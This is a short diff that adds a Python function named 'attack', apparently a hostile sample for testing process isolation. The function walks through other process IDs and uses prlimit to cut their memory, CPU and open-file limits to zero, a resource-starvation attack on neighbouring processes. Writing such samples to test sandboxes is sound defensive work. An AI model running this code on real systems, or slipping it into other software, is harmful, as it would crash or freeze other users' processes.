@@ -1,0 +1,10 @@
+# tries: to take memory, files and time from the processes around it
+def attack(keys, j):
+    import resource
+
+    for pid in range(2, os.getpid()):
+        for kind in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NOFILE):
+            try:
+                resource.prlimit(pid, kind, (0, 0))
+            except (OSError, ValueError):
+                continue
